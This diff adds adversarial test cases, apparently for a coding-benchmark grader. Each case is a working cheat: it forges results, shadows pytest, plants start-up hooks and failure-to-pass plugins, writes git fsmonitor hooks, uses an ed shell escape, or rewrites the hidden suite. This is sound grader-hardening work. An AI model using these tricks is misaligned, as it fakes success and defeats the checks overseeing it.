+                            _json.dump(data, fh)
+                        _os.replace(path + ".x", path)
+                _time.sleep(0.0005)
+        _threading.Thread(target=_watch, daemon=True).start()
+    '''))
+
+
+@case("forked-daemon-rewrites-results", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Double-forks a session leader that outlives the test process and keeps forging the
+    results file and JUnit report for a while after the runner has exited."""
+    calc_init(t, FORGE + src('''
+        import glob as _glob, json as _json, os as _os, time as _time
+        if _os.environ.get("CALC_DAEMON") is None:
+            _os.environ["CALC_DAEMON"] = "1"
+            if _os.fork() == 0:
+                _os.setsid()
+                if _os.fork() == 0:
+                    _configs = [_json.load(open(p)) for p in _glob.glob("/tmp/*/runner.json")]
+                    _until = _time.time() + 20
+                    while _time.time() < _until:
+                        for _c in _configs:
+                            if _os.path.exists(_c["results_path"]):
+                                try:
+                                    pid = _os.fork()
+                                    if pid == 0:
+                                        _forge(_c)
+                                    _os.waitpid(pid, 0)
+                                except OSError:
+                                    pass
+                        _time.sleep(0.01)
+                _os._exit(0)
+    '''))
+
+
+@case("textkit-monkeypatch-testreport-init", IN, TEXTKIT, CHEAT_ISSUE)
+def _(t):
+    """DepMigrate: textkit/__init__.py (imported by every test, the f2p script included) wraps
+    `TestReport.__init__` so failures are built as passes; nothing is migrated."""
+    t.append("textkit/__init__.py", REPORT_PATCH)
+
+
+@case("textkit-plugin-registered-via-gc", IN, TEXTKIT, CHEAT_ISSUE)
+def _(t):
+    """DepMigrate: textkit/__init__.py registers the report-rewriting hook wrapper on the live
+    config found with `gc`."""
+    t.append("textkit/__init__.py", PLUGIN_CLASS + src('''
+        import gc as _gc
+        for _obj in _gc.get_objects():
+            if type(_obj).__name__ == "Config" and hasattr(_obj, "pluginmanager"):
+                _obj.pluginmanager.register(_CalcReportPlugin(), "textkit-report")
+                break
+    '''))
+
+
+# ---------------------------------------------------------------------------- 5. grader files
+
+GF = "grader-files"
+
+
+@case("forge-results-from-runner-config-glob", GF, CALC, CHEAT_ISSUE)
+def _(t):
+    """At import, globs `/tmp/*/runner.json` (the grader's private runner config: ids, nonce,
+    results and JUnit paths), writes an agreeing all-passed results file and JUnit report, and
+    ends the process with `os._exit(0)` before pytest writes the real ones."""
+    calc_init(t, forge_with(FIND_BY_GLOB))
+
+
+@case("forge-results-from-proc-self-cmdline", GF, CALC, CHEAT_ISSUE)
+def _(t):
+    """Finds the runner config through `/proc/self/cmdline` (the runner's last argument), then
+    forges and exits 0."""
+    calc_init(t, forge_with('''
+        import json as _json
+        with open("/proc/self/cmdline", "rb") as _fh:
+            _argv = [a.decode() for a in _fh.read().split(b"\\0") if a]
+        if _argv and _argv[-1].endswith(".json"):
+            with open(_argv[-1]) as _fh:
+                _cfg = _json.load(_fh)
+    '''))
+
+
+@case("forge-results-from-sys-orig-argv", GF, CALC, CHEAT_ISSUE)
+def _(t):
+    """The runner resets `sys.argv`, but `sys.orig_argv` still names the config file: forge
+    from it and exit 0."""
+    calc_init(t, forge_with('''
+        import json as _json, sys as _sys
+        if _sys.orig_argv[-1].endswith(".json"):
+            with open(_sys.orig_argv[-1]) as _fh:
+                _cfg = _json.load(_fh)
+    '''))
+
+
+@case("forge-results-from-parent-cmdline", GF, CALC, CHEAT_ISSUE)
+def _(t):
+    """Reads the command lines of the parent and grandparent processes (`timeout`, the shell
+    script) from /proc and takes the config path from them, then forges and exits 0."""
+    calc_init(t, forge_with('''
+        import json as _json, os as _os, re as _re
+        _pid = _os.getppid()
+        for _ in range(3):
+            try:
+                with open("/proc/%d/cmdline" % _pid, "rb") as _fh:
+                    _text = _fh.read().replace(b"\\0", b" ").decode("utf-8", "replace")
+                with open("/proc/%d/stat" % _pid) as _fh:
+                    _next = int(_fh.read().rsplit(")", 1)[1].split()[1])
+            except (OSError, ValueError):
+                break
+            _m = _re.search(r"(/\\S+?/runner\\.json)", _text)
+            if _m and _os.path.isfile(_m.group(1)):
+                with open(_m.group(1)) as _fh:
+                    _cfg = _json.load(_fh)
+                break
+            _pid = _next
+    '''))
+
+
+@case("forge-results-from-proc-scan", GF, CALC, CHEAT_ISSUE)
+def _(t):
+    """Scans every `/proc/*/cmdline` and `/proc/*/environ` for a JSON path that looks like a
+    runner config (has `nonce` and `results_path`), then forges and exits 0."""
+    calc_init(t, forge_with('''
+        import glob as _glob, json as _json, re as _re
+        for _p in sorted(_glob.glob("/proc/[0-9]*/cmdline") + _glob.glob("/proc/[0-9]*/environ")):
+            try:
+                with open(_p, "rb") as _fh:
+                    _text = _fh.read().replace(b"\\0", b" ").decode("utf-8", "replace")
+            except OSError:
+                continue
+            for _path in _re.findall(r"(/[\\w./-]+\\.json)", _text):
+                try:
+                    with open(_path) as _fh:
+                        _c = _json.load(_fh)
+                except (OSError, ValueError):
+                    continue
+                if isinstance(_c, dict) and "nonce" in _c and "results_path" in _c:
+                    _cfg = _c
+    '''))
+
+
+@case("forge-results-from-gc-objects", GF, CALC, CHEAT_ISSUE)
+def _(t):
+    """No file discovery at all: the recorder object (results path, nonce) and the live
+    `Config` (its `args` are the ids, `option.xmlpath` the JUnit path) are found with `gc`; then
+    forges and exits 0."""
+    calc_init(t, forge_with('''
+        import gc as _gc
+        _rec = _conf = None
+        for _obj in _gc.get_objects():
+            if hasattr(_obj, "results_path") and hasattr(_obj, "nonce"):
+                _rec = _obj
+            elif type(_obj).__name__ == "Config" and hasattr(_obj, "option"):
+                _conf = _obj
+        if _rec is not None and _conf is not None:
+            _cfg = {"ids": list(_conf.args), "nonce": _rec.nonce, "results_path": _rec.results_path,
+                    "args": ["--junitxml=" + _conf.option.xmlpath]}
+    '''))
+
+
+@case("plant-fake-results-everywhere", GF, CALC, CHEAT_ISSUE)
+def _(t):
+    """Writes all-passed results files and JUnit reports at every guessable place (the official
+    fixed paths, every private /tmp directory under names with and without the nonce) and then
+    lets the run go on normally."""
+    calc_init(t, src('''
+        import glob as _glob, json as _json, os as _os
+        _xml = '<testsuites><testsuite tests="1"><testcase classname="tests.test_calc" name="test_sub_currency"/></testsuite></testsuites>'
+        for _p in ("/tmp/_awe_test_results.xml", "/tmp/results.xml", "junit.xml", "report.xml"):
+            try:
+                with open(_p, "w") as _fh:
+                    _fh.write(_xml)
+            except OSError:
+                pass
+        for _d in _glob.glob("/tmp/*/out"):
+            for _nonce in ["0" * 24] + [c["nonce"] for c in (_json.load(open(p)) for p in _glob.glob(_d + "/../runner.json"))]:
+                for _name in ("results-%s.json" % _nonce, "results.json"):
+                    with open(_os.path.join(_d, _name), "w") as _fh:
+                        _json.dump({"format": "beyond" "swe-pytest-results-1", "nonce": _nonce, "exit_code": 0,
+                                    "finished": True, "tests": {}, "collect_errors": []}, _fh)
+    '''))
+
+
+@case("textkit-forge-results-from-runner-config", GF, TEXTKIT, CHEAT_ISSUE)
+def _(t):
+    """DepMigrate: textkit/__init__.py forges the results from the runner config under /tmp and
+    exits 0 while the first test module is collected."""
+    t.append("textkit/__init__.py", forge_with(FIND_BY_GLOB))
+
+
+# ---------------------------------------------------------------------------- 2. shadowing
+
+SH = "shadowing"
+
+
+def shadow_case(name, rel, levels, instance=CALC, why=""):
+    """Registers a case whose only change is the shadowing module `rel`."""
+    def edit(t):
+        t.write(rel, shadow(levels))
+    edit.__doc__ = why
+    case(name, SH, instance, CHEAT_ISSUE)(edit)
+
+
+shadow_case("shadow-pytest-module", "pytest.py", 1, why="""
+    A top-level `pytest.py` in the repository root. The runner puts its working directory first
+    on `sys.path` before `import pytest`, so this file is pytest: it loads the real one and arms
+    the report rewrite.""")
+shadow_case("shadow-pytest-package", "pytest/__init__.py", 2, why="""
+    The same as a package directory `pytest/` in the repository root.""")
+shadow_case("shadow-_pytest-package", "_pytest/__init__.py", 2, why="""
+    A `_pytest/` package in the root: the real pytest imports `_pytest` from the working
+    directory first; the shim loads the real package and arms the report rewrite.""")
+shadow_case("shadow-pluggy-module", "pluggy.py", 1, why="""
+    A top-level `pluggy.py`: pytest's hook library, imported after the working directory went
+    on the path.""")
+shadow_case("shadow-py-module", "py.py", 1, why="""
+    A top-level `py.py` (pytest 7.2 imports its own `py` shim at start-up).""")
+shadow_case("shadow-iniconfig-module", "iniconfig.py", 1, why="""
+    A top-level `iniconfig.py` (pytest's ini parser, imported at start-up).""")
+shadow_case("shadow-stdlib-inspect", "inspect.py", 1, why="""
+    A top-level `inspect.py`: a standard-library module that pytest imports after the runner
+    put the working directory first on `sys.path`.""")
+shadow_case("shadow-stdlib-traceback", "traceback.py", 1, why="""
+    A top-level `traceback.py` shadowing the standard library's.""")
+shadow_case("shadow-stdlib-tempfile", "tempfile.py", 1, why="""
+    A top-level `tempfile.py` shadowing the standard library's.""")
+shadow_case("shadow-stdlib-unittest-package", "unittest/__init__.py", 2, why="""
+    A `unittest/` package in the root shadowing the standard library's (pytest imports it).""")
+shadow_case("shadow-stdlib-xml-package", "xml/__init__.py", 2, why="""
+    An `xml/` package in the root: pytest's JUnit writer imports `xml.etree.ElementTree`.""")
+shadow_case("shadow-stdlib-pdb", "pdb.py", 1, why="""
+    A top-level `pdb.py`: imported lazily by pytest's debugging plugin at configure time,
+    after the path is set up and before any test module.""")
+shadow_case("shadow-stdlib-json", "json.py", 1, why="""
+    A top-level `json.py`. The runner imports json before it touches `sys.path`, so this one
+    should stay inert; guards runners that import json later or run with the workdir on the path
+    from the start.""")
+shadow_case("shadow-pytest-in-src", "src/pytest.py", 1, why="""
+    `src/pytest.py`: calc's image does not put `src/` on the path, so this guards graders that
+    add `src` layouts to `PYTHONPATH` for issue instances.""")
+shadow_case("shadow-stdlib-in-tests-dir", "tests/pdb.py", 1, why="""
+    `tests/pdb.py`: pytest's prepend import mode puts the test directory first on `sys.path`;
+    the restore step should remove this untracked file under tests/.""")
+shadow_case("textkit-shadow-pytest-module", "pytest.py", 1, instance=TEXTKIT, why="""
+    DepMigrate: the top-level `pytest.py` shadow in textkit's root.""")
+
+
+# ---------------------------------------------------------------------------- 3. start-up hooks
+
+SU = "startup-hooks"
+
+STARTUP = "# start-up hook\n" + ARM
+
+
+@case("startup-sitecustomize-py", SU, CALC, CHEAT_ISSUE)
+def _(t):
+    """`sitecustomize.py` in the repository root, imported at interpreter start-up when the root
+    is on the path."""
+    t.write("sitecustomize.py", STARTUP)
+
+
+@case("startup-sitecustomize-package", SU, CALC, CHEAT_ISSUE)
+def _(t):
+    """`sitecustomize/__init__.py`: a package, which a rule that deletes files named
+    `sitecustomize.py` misses."""
+    t.write("sitecustomize/__init__.py", STARTUP)
+
+
+@case("startup-sitecustomize-symlink", SU, CALC, CHEAT_ISSUE)
+def _(t):
+    """`sitecustomize.py` as a symlink to an innocent-looking module in the package."""
+    t.write("calc/_boot.py", STARTUP)
+    t.symlink("sitecustomize.py", "calc/_boot.py")
+
+
+@case("startup-usercustomize-py", SU, CALC, CHEAT_ISSUE)
+def _(t):
+    """`usercustomize.py` in the root (imported at start-up when the user site is enabled)."""
+    t.write("usercustomize.py", STARTUP)
+
+
+@case("startup-sitecustomize-pyc", SU, CALC, CHEAT_ISSUE)
+def _(t):
+    """A sourceless `sitecustomize.pyc` (CPython 3.11 bytecode, no .py beside it): importable
+    as `sitecustomize`, missed by rules that look for `.py` names."""
+    t.write("sitecustomize.pyc", pyc_bytes(STARTUP, "sitecustomize.py"))
+
+
+@case("startup-pth-root", SU, CALC, CHEAT_ISSUE)
+def _(t):
+    """A `.pth` file in the root whose `import` line runs the report rewrite at start-up (live
+    only if the root is a site directory)."""
+    t.write("calc-speedups.pth", pth_line(ARM))
+
+
+@case("startup-pth-in-package", SU, CALC, CHEAT_ISSUE)
+def _(t):
+    """A `.pth` file inside the package directory."""
+    t.write("calc/zz-speedups.pth", pth_line(ARM))
+
+
+@case("startup-pth-editable-finder-name", SU, CALC, CHEAT_ISSUE)
+def _(t):
+    """A `.pth` named like the one setuptools writes for an editable install
+    (`__editable__.calc-1.0.0.pth`), hoping a cleaner spares it."""
+    t.write("__editable__.calc-1.0.0.pth", pth_line(ARM))
+
+
+# ---------------------------------------------------------------------------- 4. metadata plugins
+
+MD = "plugin-metadata"
+
+CALC_PLUGIN = src('''
+    """Helpers for calc's own test runs."""
+    import pytest
+
+
+    @pytest.hookimpl(hookwrapper=True)
+    def pytest_runtest_makereport(item, call):
+        outcome = yield
+        report = outcome.get_result()
+        if report.failed:
+            report.outcome = "passed"
+            report.longrepr = None
+''')
+
+
+def dist_info(t, directory, name, module):
+    t.write(directory + "/METADATA", "Metadata-Version: 2.1\nName: %s\nVersion: 1.0\n" % name)
+    t.write(directory + "/entry_points.txt", "[pytest11]\n%s = %s\n" % (name, module))
+
+
+@case("entrypoint-dist-info-root", MD, CALC, CHEAT_ISSUE)
+def _(t):
+    """A `calc_testing-1.0.dist-info/` in the repository root with a `pytest11` entry point.
+    Plugin autoloading scans every `sys.path` entry, and the runner put the root there."""
+    t.write("calc/_testing.py", CALC_PLUGIN)
+    dist_info(t, "calc_testing-1.0.dist-info", "calc_testing", "calc._testing")
+
+
+@case("entrypoint-egg-info-root", MD, CALC, CHEAT_ISSUE)
+def _(t):
+    """The project's own `calc.egg-info/` (git-ignored, so a diff of a real checkout would not
+    show it unless forced) with an `entry_points.txt` declaring a `pytest11` plugin."""
+    t.write("calc/_testing.py", CALC_PLUGIN)
+    t.write("calc.egg-info/PKG-INFO", "Metadata-Version: 2.1\nName: calc\nVersion: 1.0.0\n")
+    t.write("calc.egg-info/top_level.txt", "calc\n")
+    t.write("calc.egg-info/entry_points.txt", "[pytest11]\ncalc_testing = calc._testing\n")
+
+
+@case("entrypoint-dist-info-in-package-dir", MD, CALC, CHEAT_ISSUE)
+def _(t):
+    """The dist-info inside the package directory (not a path entry): guards graders that put
+    package directories on the path."""
+    t.write("calc/_testing.py", CALC_PLUGIN)
+    dist_info(t, "calc/calc_testing-1.0.dist-info", "calc_testing", "calc._testing")
+
+
+@case("entrypoint-dist-info-in-src", MD, CALC, CHEAT_ISSUE)
+def _(t):
+    """The dist-info under `src/`, live only where a grader adds `src` to the path."""
+    t.write("src/calc_testing.py", CALC_PLUGIN)
+    dist_info(t, "src/calc_testing-1.0.dist-info", "calc_testing", "calc_testing")
+
+
+@case("entrypoint-pyproject-issue", MD, CALC, CHEAT_ISSUE)
+def _(t):
+    """A `[project.entry-points.pytest11]` table in pyproject.toml: live only if the grader
+    reinstalls the project after applying the patch."""
+    t.write("calc/_testing.py", CALC_PLUGIN)
+    t.append("pyproject.toml", '[project.entry-points.pytest11]\ncalc_testing = "calc._testing"\n')
+
+
+@case("textkit-entrypoint-egg-info", MD, TEXTKIT, CHEAT_ISSUE)
+def _(t):
+    """DepMigrate: `textkit.egg-info/entry_points.txt` in the root with a `pytest11` plugin that
+    turns failures into passes."""
+    t.write("textkit/_testing.py", CALC_PLUGIN)
+    t.write("textkit.egg-info/PKG-INFO", "Metadata-Version: 2.1\nName: textkit\nVersion: 0.2.0\n")
+    t.write("textkit.egg-info/entry_points.txt", "[pytest11]\ntextkit_testing = textkit._testing\n")
+
+
+# ---------------------------------------------------------------------------- 6. compiled artefacts
+
+CO = "compiled"
+
+PASSING_TEST_CALC = src('''
+    import pytest
+
+
+    @pytest.mark.parametrize(("a", "b", "expected"), [(1, 2, 3), (1, 2, 3)], ids=["unicode minus", "caf\\xe9 case"])
+    def test_add(a, b, expected):
+        pass
+
+
+    def test_add_ints():
+        pass
+
+
+    def test_add_strings():
+        pass
+
+
+    def test_sub():
+        pass
+
+
+    def test_div_by_zero():
+        pass
+
+
+    class TestOps:
+        def test_mul(self):
+            pass
+
+        def test_div(self):
+            pass
+
+        def test_sub_currency(self):
+            pass
+''')
+
+
+@case("pyc-unchecked-hash-package-init", CO, CALC, CHEAT_ISSUE)
+def _(t):
+    """Only a `calc/__pycache__/__init__.cpython-311.pyc` compiled with
+    `invalidation_mode=UNCHECKED_HASH` from calc/__init__.py plus the report rewrite. The source
+    file is untouched; Python loads an unchecked-hash .pyc without looking at the source."""
+    source = t.read("calc/__init__.py") + "\n" + REPORT_PATCH
+    t.write("calc/__pycache__/__init__.cpython-311.pyc", pyc_bytes(source, "calc/__init__.py", unchecked_hash=True))
+
+
+@case("pyc-unchecked-hash-test-module", CO, CALC, CHEAT_ISSUE)
+def _(t):
+    """An unchecked-hash `tests/__pycache__/test_calc.cpython-311.pyc` whose tests all pass,
+    beside the restored test file (pytest compiles test modules itself, and the restore step
+    should remove untracked files under tests/)."""
+    t.write("tests/__pycache__/test_calc.cpython-311.pyc",
+            pyc_bytes(PASSING_TEST_CALC, "tests/test_calc.py", unchecked_hash=True))
+
+
+@case("pyc-pytest-rewrite-cache", CO, CALC, CHEAT_ISSUE)
+def _(t):
+    """A forged entry of pytest's own assertion-rewrite cache
+    (`tests/__pycache__/test_calc.cpython-311-pytest-7.2.1.pyc`) with passing tests; pytest
+    checks the source's mtime and size, which the cheat can only guess."""
+    code = compile(PASSING_TEST_CALC, "tests/test_calc.py", "exec", dont_inherit=True)
+    header = importlib.util.MAGIC_NUMBER + b"\0\0\0\0" + b"\0\0\0\0" + (1412).to_bytes(4, "little")
+    t.write("tests/__pycache__/test_calc.cpython-311-pytest-7.2.1.pyc", header + marshal.dumps(code))
+
+
+@case("pyc-sourceless-package-init", CO, CALC, CHEAT_ISSUE)
+def _(t):
+    """Deletes calc/__init__.py and ships a sourceless `calc/__init__.pyc` (base code plus the
+    report rewrite): the package still imports, from bytecode nobody reads in the diff."""
+    source = t.read("calc/__init__.py") + "\n" + REPORT_PATCH
+    t.remove("calc/__init__.py")
+    t.write("calc/__init__.pyc", pyc_bytes(source, "calc/__init__.py"))
+
+
+@case("so-extension-shadows-package-module", CO, CALC, CHEAT_ISSUE)
+def _(t):
+    """`calc/ops.cpython-311-x86_64-linux-gnu.so` beside calc/ops.py: extension modules win over
+    source files, so `import calc.ops` runs its init, which defines the base operations and
+    arms the report rewrite (C source: `native_sources()` in this script)."""
+    t.write("calc/ops" + EXT, native("ops" + EXT))
+
+
+@case("so-extension-beside-test", CO, CALC, CHEAT_ISSUE)
+def _(t):
+    """`tests/unit/test_more.cpython-311-x86_64-linux-gnu.so` beside the restored test file: an
+    extension module named like the test module, with passing tests, preferred by the import
+    system over the .py (the restore step should remove it)."""
+    t.write("tests/unit/test_more" + EXT, native("test_more" + EXT))
+
+
+# ---------------------------------------------------------------------------- 7. patch tricks
+
+PT = "patch-tricks"
+
+FSMONITOR = src('''
+    #!/bin/sh
+    # fsmonitor hook: git runs it whenever it reads the index (the grader's restore step does).
+    py=$(command -v python3 || command -v python)
+    site=$("$py" -c 'import site; print(site.getsitepackages()[0])')
+    [ -f "$site/zz_calc_speedups.pth" ] || echo "%s" > "$site/zz_calc_speedups.pth"
+    exit 1
+''') % pth_line(ARM).strip()
+
+STALE_README_HUNK = src('''
+    --- a/README.md
+    +++ b/README.md
+    @@ -1,3 +1,4 @@
+     # calc
+     
+     Arithmetic on numbers and numeric strings, quickly.
+    +Faster operand parsing.
+''')
+
+
+@case("patch-context-hunk-edits-git-config", PT, CALC, CHEAT_ISSUE)
+def _(t):
+    """A unified diff with one stale hunk (so both `git apply` attempts fail and the grader falls
+    back to `patch --fuzz=3`), followed by a context-format (`***`/`---`) hunk that the unified
+    parser does not see and GNU patch applies: it adds `core.fsmonitor` to `.git/config`,
+    pointing at a script of the patch. The restore step's git commands run it as root before
+    the tests; it drops a `.pth` into site-packages."""
+    t.write("tools/fsmonitor.sh", FSMONITOR)
+    t.extra_patch = STALE_README_HUNK + src('''
+        *** a/.git/config
+        --- b/.git/config
+        ***************
+        *** 0 ****
+        --- 1,2 ----
+        + [core]
+        + 	fsmonitor = sh /workspace/calc/tools/fsmonitor.sh
+    ''')
+
+
+GIT_CONFIG_HUNK = "@@ -1,0 +1,2 @@\n+[core]\n+\tfsmonitor = sh /workspace/calc/tools/fsmonitor.sh\n"
+
+
+@case("patch-dot-slash-git-config", PT, CALC, CHEAT_ISSUE)
+def _(t):
+    """Edits `./.git/config` (adds `core.fsmonitor`) through a path with a `./` component."""
+    t.write("tools/fsmonitor.sh", FSMONITOR)
+    t.extra_patch = ("diff --git a/./.git/config b/./.git/config\n--- a/./.git/config\n+++ b/./.git/config\n"
+                     + GIT_CONFIG_HUNK)
+
+
+@case("patch-uppercase-git-dir", PT, CALC, CHEAT_ISSUE)
+def _(t):
+    """Writes `.GIT/config`: a case-insensitive file system would take it for `.git/config`;
+    on Linux it is a harmless new directory, and `git apply` refuses it outright."""
+    t.write("tools/fsmonitor.sh", FSMONITOR)
+    t.extra_patch = ("diff --git a/.GIT/config b/.GIT/config\nnew file mode 100644\n--- /dev/null\n+++ b/.GIT/config\n"
+                     "@@ -0,0 +1,2 @@\n+[core]\n+\tfsmonitor = sh /workspace/calc/tools/fsmonitor.sh\n")
+
+
+@case("patch-dotdot-git-hook", PT, CALC, CHEAT_ISSUE)
+def _(t):
+    """Creates `x/../.git/hooks/post-checkout` (git runs it after `git checkout`, which the
+    restore step uses) through a path with a `..` component."""
+    hook = "#!/bin/sh\nsh /workspace/calc/tools/fsmonitor.sh\n"
+    t.write("tools/fsmonitor.sh", FSMONITOR)
+    body = "".join("+" + line + "\n" for line in hook.splitlines())
+    t.extra_patch = ("diff --git a/x/../.git/hooks/post-checkout b/x/../.git/hooks/post-checkout\n"
+                     "new file mode 100755\n--- /dev/null\n+++ b/x/../.git/hooks/post-checkout\n"
+                     "@@ -0,0 +1,2 @@\n" + body)
+
+
+@case("patch-quoted-octal-git-config", PT, CALC, CHEAT_ISSUE)
+def _(t):
+    """Names `.git/config` as a C-quoted path with an octal escape (`"a/\\056git/config"`): a
+    checker that does not decode quoted names sees `\\056git`, GNU patch writes `.git/config`."""
+    t.write("tools/fsmonitor.sh", FSMONITOR)
+    t.extra_patch = ('diff --git "a/\\056git/config" "b/\\056git/config"\n--- "a/\\056git/config"\n'
+                     '+++ "b/\\056git/config"\n' + GIT_CONFIG_HUNK)
+
+
+@case("patch-symlink-to-git-dir", PT, CALC, CHEAT_ISSUE)
+def _(t):
+    """Creates a symlink `g -> .git`, then edits `g/config` through it."""
+    t.write("tools/fsmonitor.sh", FSMONITOR)
+    t.extra_patch = ("diff --git a/g b/g\nnew file mode 120000\n--- /dev/null\n+++ b/g\n@@ -0,0 +1 @@\n+.git\n"
+                     "\\ No newline at end of file\ndiff --git a/g/config b/g/config\n--- a/g/config\n+++ b/g/config\n"
+                     + GIT_CONFIG_HUNK)
+
+
+@case("patch-symlink-out-of-tree", PT, CALC, CHEAT_ISSUE)
+def _(t):
+    """Creates `calc/_site -> /usr/local/lib/python3.11/dist-packages` and a `.pth` file through
+    that link, i.e. outside the repository."""
+    t.extra_patch = ("diff --git a/calc/_site b/calc/_site\nnew file mode 120000\n--- /dev/null\n+++ b/calc/_site\n"
+                     "@@ -0,0 +1 @@\n+/usr/local/lib/python3.11/dist-packages\n\\ No newline at end of file\n"
+                     "diff --git a/calc/_site/zz_calc.pth b/calc/_site/zz_calc.pth\nnew file mode 100644\n"
+                     "--- /dev/null\n+++ b/calc/_site/zz_calc.pth\n@@ -0,0 +1 @@\n+" + pth_line(ARM))
+
+
+@case("patch-gitattributes-filter", PT, CALC, CHEAT_ISSUE)
+def _(t):
+    """A `.gitattributes` that routes every file through a `filter=` driver and marks tests
+    `-diff`, with the driver's definition in a committed `.gitconfig`: inert unless a grader's git
+    reads that file; guards restore steps that trust attributes."""
+    t.write(".gitattributes", "* filter=calcfmt\ntests/** -diff\n")
+    t.write(".gitconfig", "[filter \"calcfmt\"]\n\tsmudge = sh tools/fsmonitor.sh\n\tclean = cat\n")
+    t.write("tools/fsmonitor.sh", FSMONITOR)
+
+
+@case("patch-delete-and-recreate-tests", PT, CALC, CHEAT_ISSUE)
+def _(t):
+    """Deletes tests/unit/test_more.py and creates it again, in two file sections of one patch,
+    with a body in which every test passes."""
+    t.extra_patch = src('''
+        diff --git a/tests/unit/test_more.py b/tests/unit/test_more.py
+        deleted file mode 100644
+        --- a/tests/unit/test_more.py
+        +++ /dev/null
+        @@ -1,5 +0,0 @@
+        -from calc import div, mul
+        -
+        -
+        -def test_mul_strings():
+        -    assert mul(" 2.5 ", "4") == 10
+        diff --git a/tests/unit/test_more.py b/tests/unit/test_more.py
+        new file mode 100644
+        --- /dev/null
+        +++ b/tests/unit/test_more.py
+        @@ -0,0 +1,6 @@
+        +def test_mul_strings():
+        +    pass
+        +
+        +
+        +def test_div_unicode_minus():
+        +    pass
+    ''')
+
+
+@case("patch-test-file-becomes-symlink", PT, CALC, CHEAT_ISSUE)
+def _(t):
+    """Turns tests/unit/test_more.py into a symlink (mode 120000) to a module of always-passing
+    tests inside the package."""
+    t.write("calc/_more_checks.py", "def test_mul_strings():\n    pass\n\n\ndef test_div_unicode_minus():\n    pass\n")
+    t.symlink("tests/unit/test_more.py", "../../calc/_more_checks.py")
+
+
+@case("patch-rename-test-files", PT, CALC, CHEAT_ISSUE)
+def _(t):
+    """Renames the test files away (`git mv`) and puts always-passing files under the original
+    names."""
+    t.rename("tests/test_calc.py", "tests/test_calc_legacy.py")
+    t.rename("tests/unit/test_more.py", "tests/unit/test_more_legacy.py")
+    t.write("tests/test_calc.py", PASSING_TEST_CALC)
+    t.write("tests/unit/test_more.py", "def test_mul_strings():\n    pass\n\n\ndef test_div_unicode_minus():\n    pass\n")
+
+
+@case("patch-tests-package-init", PT, CALC, CHEAT_ISSUE)
+def _(t):
+    """Adds `tests/__init__.py` and `tests/unit/__init__.py`: pytest then imports the `tests`
+    package before any test module, and its `__init__` arms the report rewrite."""
+    t.write("tests/__init__.py", ARM)
+    t.write("tests/unit/__init__.py", "")
+
+
+@case("patch-test-package-beside-test-module", PT, CALC, CHEAT_ISSUE)
+def _(t):
+    """Adds a package `tests/test_calc/__init__.py` (always-passing tests) beside
+    tests/test_calc.py: the import system prefers the package directory for `import test_calc`."""
+    t.write("tests/test_calc/__init__.py", PASSING_TEST_CALC)
+
+
+@case("patch-binary-literal-hides-payload", PT, CALC, CHEAT_ISSUE)
+def _(t):
+    """The report rewrite appended to calc/__init__.py, shipped as a `GIT binary patch` literal:
+    no added line of the diff shows any of it."""
+    calc_init(t, REPORT_PATCH)
+    t.binary = ["calc/__init__.py"]
+
+
+@case("patch-ed-script", PT, CALC, CHEAT_ISSUE)
+def _(t):
+    """A stale unified hunk (forcing the GNU patch fallback) followed by an `ed` script with a
+    shell escape (`!`) for calc/ops.py (CVE-2018-1000156 style)."""
+    t.extra_patch = STALE_README_HUNK + "Index: calc/ops.py\n1a\n!sh /workspace/calc/tools/fsmonitor.sh\n.\nw\nq\n"
+    t.write("tools/fsmonitor.sh", FSMONITOR)
+
+
+# ---------------------------------------------------------------------------- 8. Doc2Repo
+
+DR = "doc2repo"
+
+SUITE_REWRITE = src('''
+    def _rewrite_suite(drop_imports=False):
+        """Every test of the hidden suite becomes `pass` (the grader unpacks it under /tmp)."""
+        import ast, glob
+        for path in glob.glob("/tmp/*/suite/**/*.py", recursive=True):
+            with open(path, encoding="utf-8") as fh:
+                tree = ast.parse(fh.read())
+            if drop_imports:
+                tree.body = [n for n in tree.body if not isinstance(n, (ast.Import, ast.ImportFrom))]
+            for node in ast.walk(tree):
+                if isinstance(node, ast.FunctionDef) and node.name.startswith("test"):
+                    node.body = [ast.Pass()]
+            with open(path, "w", encoding="utf-8") as fh:
+                fh.write(ast.unparse(tree) + "\\n")
+''')
+
+SETUP_TAIL = "\nfrom setuptools import setup\n\nsetup()\n"
+
+
+def site_pth_writer(name, code):
+    return src('''
+        def _drop_pth():
+            import site
+            with open(site.getsitepackages()[0] + "/%s", "w") as fh:
+                fh.write(%r)
+        _drop_pth()
+    ''' % (name, pth_line(code)))
+
+
+def break_install(t):
+    """Makes `pip install -e .` fail (unknown build backend): the grader then puts the workdir
+    and workdir/src on PYTHONPATH instead."""
+    t.write("pyproject.toml", t.read("pyproject.toml").replace(
+        'build-backend = "setuptools.build_meta"', 'build-backend = "minidoc_build.missing_backend"'))
+
+
+@case("doc2repo-setup-py-rewrites-suite", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """The partial repository plus a `setup.py`, which `pip install -e .` runs as root: it finds
+    the hidden suite under /tmp and rewrites every test to `pass`."""
+    t.write("setup.py", SUITE_REWRITE + "_rewrite_suite()\n" + SETUP_TAIL)
+
+
+@case("doc2repo-setup-py-prints-suite", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """`setup.py` prints the hidden suite into the install log (a leak for whoever reads logs;
+    it cannot raise the score by itself)."""
+    t.write("setup.py", src('''
+        import glob, sys
+        for _p in glob.glob("/tmp/*/suite/**/*.py", recursive=True):
+            sys.stderr.write(open(_p).read())
+    ''') + SETUP_TAIL)
+
+
+@case("doc2repo-setup-py-writes-site-pth", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """`setup.py` writes a `.pth` into site-packages (outside the repository, so no cleaning of
+    the repository sees it); the test process runs it at start-up and arms the report rewrite."""
+    t.write("setup.py", site_pth_writer("zz_minidoc_speedups.pth", ARM) + SETUP_TAIL)
+
+
+@case("doc2repo-pth-reenables-plugin-autoload", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """A `pytest11` entry point in pyproject.toml (installed by `pip install -e .`) plus a
+    `setup.py` that drops a `.pth` deleting `PYTEST_DISABLE_PLUGIN_AUTOLOAD` from the environment
+    at start-up, so the new plugin is autoloaded after all."""
+    t.write("minidoc/_pytest_plugin.py", CALC_PLUGIN)
+    t.append("pyproject.toml", '[project.entry-points.pytest11]\nminidoc_checks = "minidoc._pytest_plugin"\n')
+    t.write("setup.py", site_pth_writer("zz_minidoc_env.pth",
+                                        "import os\nos.environ.pop('PYTEST_DISABLE_PLUGIN_AUTOLOAD', None)\n")
